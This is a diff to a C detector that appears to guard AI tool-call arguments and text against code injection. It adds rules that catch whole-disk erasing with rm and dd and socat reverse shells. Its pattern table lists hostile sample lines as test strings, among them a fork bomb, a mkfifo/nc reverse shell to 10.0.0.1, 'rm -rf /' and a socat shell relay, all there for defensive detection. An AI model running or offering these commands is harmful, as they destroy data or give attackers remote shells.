@@ -8,7 +8,8 @@
  *   remote     a shell joined to a socket: /dev/tcp/HOST/PORT, nc -e, mkfifo with nc, sockets in one-liners; what is before
  *              sent to one: | nc HOST PORT
  *   hidden     powershell -enc, Invoke-Expression of a download, certutil downloads
- *   erasing    rm -r on the root, a home or everything, behind a separator; the fork bomb */
+ *   erasing    rm -r on the root, a home or everything, behind a separator; the same, or a disk overwritten, as a whole value;
+ *              the fork bomb */
 #include "guard/code_injection/inject.h"
 
 static void found(bawn_probe *p, size_t begin, size_t end, float score)
@@ -22,7 +23,7 @@ static size_t line_rest(bawn_probe *p, size_t i, size_t most)   /* end of the co
     size_t to = i + most;
     for (; i < to; i++) {
         int c = bawn_probe_at(p, i);
-        if (c < 0 || c == '\n' || c == '`')
+        if (c < 0 || c == '\n' || c == '`' || bawn_inject_value_closes(p, i))
             break;
     }
     return i;
@@ -57,7 +58,7 @@ static size_t probe_command(bawn_probe *p, size_t i)
             continue;
         size_t argument = bawn_inject_blanks(p, i + n);
         int c = bawn_probe_at(p, argument);
-        if (!probing[k].follows[0] && (c < 0 || strchr("\n\r)`'\";#", c)) && c != 0)
+        if (!probing[k].follows[0] && c != 0 && (c < 0 || strchr("\n\r)`'\";#", c) || bawn_inject_value_ends(p, argument)))
             return n;
         if (argument == i + n && c != '$')
             continue;
@@ -113,7 +114,7 @@ static bool data_before(const bawn_probe *p, size_t separator)
         at |= p->text.ptr[word] == '@';
         digits &= bawn_is_digit((unsigned char)p->text.ptr[word]);
     }
-    return dot || at || digits || bawn_inject_line_opens(p, word) || bawn_probe_back(p, word) == '=';
+    return dot || at || digits || bawn_inject_value_opens(p, word) || bawn_probe_back(p, word) == '=';
 }
 
 /* "name | id": a column of a table, unless an address stands before. */
@@ -162,7 +163,18 @@ static bool stands_alone(bawn_probe *p, size_t begin, size_t end, bool tick)
     bool quoted = before == '"' && after == '"' && p->place == BAWN_IN_TOOL_ARGUMENTS;
     if (tick && p->place != BAWN_IN_TOOL_ARGUMENTS)
         return false;
-    return quoted || (bawn_inject_line_opens(p, begin) && bawn_inject_line_ends(p, end));
+    return quoted || (bawn_inject_value_opens(p, begin) && bawn_inject_value_ends(p, end));
+}
+
+/* "name $(command)": one word, that is the begin of the line or value, stands before the blank. */
+static bool behind_word(const bawn_probe *p, size_t begin)
+{
+    size_t end = begin, word;
+    while (end > 0 && p->text.ptr[end - 1] == ' ')
+        end--;
+    for (word = end; word > 0 && bawn_inject_name_byte((unsigned char)p->text.ptr[word - 1]);)
+        word--;
+    return end < begin && word < end && bawn_inject_value_opens(p, word);
 }
 
 /* $(command) and `command`: a probing one glued to data, alone on its line, or severe anywhere outside scripts. */
@@ -190,7 +202,7 @@ static void substitution(bawn_probe *p, size_t end)
     if (finish == SIZE_MAX || bawn_probe_at(p, finish) != close || script)
         return;
     bool dire = bawn_probe_one_of(p, inside, severe) > 0;
-    bool alone = stands_alone(p, begin, finish + 1, tick);
+    bool alone = stands_alone(p, begin, finish + 1, tick) || (!tick && behind_word(p, begin) && bawn_inject_value_ends(p, finish + 1));
     if ((n > 0 && (glued || alone)) || (dire && (!tick || glued)))
         found(p, begin, finish + 1, dire ? 0.95f : 0.8f);
 }
@@ -329,6 +341,82 @@ static void downloaded(bawn_probe *p, size_t end)   /* IEX (New-Object Net.WebCl
         found(p, begin, line_rest(p, load, 120), 0.95f);
 }
 
+/* ---- erasing as a whole value -------------------------------------------------------------------------------------------- */
+/* Nothing before the command but blanks and sudo, from the begin of the text or of the argument's value. */
+static bool begins_value(const bawn_probe *p, size_t *begin)
+{
+    size_t i = *begin;
+    if (i >= 5 && bawn_slice_eq_nocase(bawn_slice_of(p->text.ptr + i - 5, 5), BAWN_LIT("sudo ")))
+        i -= 5;
+    *begin = i;
+    if (p->place == BAWN_IN_TOOL_ARGUMENTS)
+        return bawn_inject_value_opens(p, i);
+    while (i > 0 && bawn_is_space((unsigned char)p->text.ptr[i - 1]))
+        i--;
+    return i == 0;
+}
+
+/* And nothing behind it. In prose a command on a line of its own is talk; the whole of a text is none. */
+static bool ends_value(bawn_probe *p, size_t i)
+{
+    if (p->place == BAWN_IN_TOOL_ARGUMENTS)
+        return bawn_inject_value_ends(p, i);
+    while (bawn_probe_at(p, i) >= 0 && bawn_is_space((unsigned char)bawn_probe_at(p, i)))
+        i++;
+    return bawn_probe_at(p, i) < 0;
+}
+
+static void erasing(bawn_probe *p, size_t end)      /* rm -rf / */
+{
+    static const char *const whole[] = { "/*", "/", "~/*", "~/", "~", "$home/*", "$home", "c:\\", NULL };
+    size_t begin = end - 1, i = end - 1;
+    while (begin > 0 && bawn_is_space((unsigned char)p->text.ptr[begin - 1]))
+        begin--;
+    begin -= 2;
+    p->begin = begin;
+    if (!begins_value(p, &begin) || !recursive_force(p, &i))
+        return;
+    p->begin = begin;
+    size_t n = bawn_probe_one_of(p, i, whole);
+    size_t to = bawn_inject_blanks(p, i + n);
+    if (n > 0 && bawn_probe_text_at(p, to, "--no-preserve-root"))
+        n = to + 18 - i;
+    if (n > 0 && ends_value(p, i + n))
+        found(p, begin, i + n, 0.95f);
+}
+
+static void wiping(bawn_probe *p, size_t end)       /* dd if=/dev/zero of=/dev/sda */
+{
+    static const char *const target[] = { "of=/dev/sd", "of=/dev/hd", "of=/dev/vd", "of=/dev/xvd", "of=/dev/nvme", "of=/dev/mmcblk", "of=/dev/disk", NULL };
+    size_t begin = end;
+    while (begin > 0 && p->text.ptr[begin - 1] != '=')
+        begin--;
+    begin -= 3;
+    while (begin > 0 && bawn_is_space((unsigned char)p->text.ptr[begin - 1]))
+        begin--;
+    begin -= 2;
+    p->begin = begin;
+    size_t rest = line_rest(p, end, 120);
+    bool whole = begins_value(p, &begin) && ends_value(p, rest);
+    p->begin = begin;
+    if (whole && bawn_inject_find(p, end, rest, '\n', target) != SIZE_MAX)
+        found(p, begin, rest, 0.8f);
+}
+
+static void relay(bawn_probe *p, size_t end)        /* socat TCP:HOST:PORT EXEC:/bin/sh */
+{
+    static const char *const sockets[] = { "tcp", "udp", "openssl", "ssl:", NULL }, *const runs[] = { "exec:", "system:", NULL };
+    static const char *const shells[] = { "sh", "cmd", "powershell", NULL };
+    p->begin = end - 6;
+    size_t run = bawn_inject_find(p, end, end + 160, '\n', runs);
+    if (run == SIZE_MAX || bawn_inject_find(p, end, end + 160, '\n', sockets) == SIZE_MAX ||
+        bawn_inject_find(p, run + 5, run + 40, '\n', shells) == SIZE_MAX)
+        return;
+    while (bawn_probe_at(p, run) > ' ' && !bawn_inject_value_closes(p, run))
+        run++;
+    found(p, end - 6, run, 0.95f);
+}
+
 static void itself(bawn_probe *p, size_t end)       /* the row says it all */
 {
     size_t begin = end - 4;
@@ -355,10 +443,13 @@ static const bawn_pattern patterns[] = {
     ROW(":\\(\\) ?\\{ ?: ?\\| ?: ?& ?\\} ?;", ":(){ :|:& };:", "f(){ g | h & };"),
     ROW("certutil(?:\\.exe)? [^\\n]{0,20}-urlcache [^\\n]{0,20}http", "certutil -urlcache -split -f http://x.example/a.exe", "certutil -hashfile a.exe SHA256"),
     ROW("mkfifo /[^\\n]{1,80}\\bnc ", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f", "mkfifo /tmp/f; cat /tmp/f"),
+    ROW("\\brm[ ]{1,3}-", "rm -rf /", "rm -rf / is what you must never type"),
+    ROW("\\bdd[ ]{1,3}if=/dev/(?:zero|u?random)", "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=/dev/sda wipes a disk;\nhow long does it take?"),
+    ROW("\\bsocat ", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "socat TCP-LISTEN:80,fork TCP:10.0.0.1:8080"),
 };
 static void (*const readers[])(bawn_probe *, size_t end) = {
     separator, substitution, substitution, piped, piped, piped, device, netcat, one_liner, encoded, downloaded,
-    itself, itself, itself
+    itself, itself, itself, erasing, wiping, relay
 };
 _Static_assert(BAWN_COUNT(readers) == BAWN_COUNT(patterns), "a reader for each row");
 
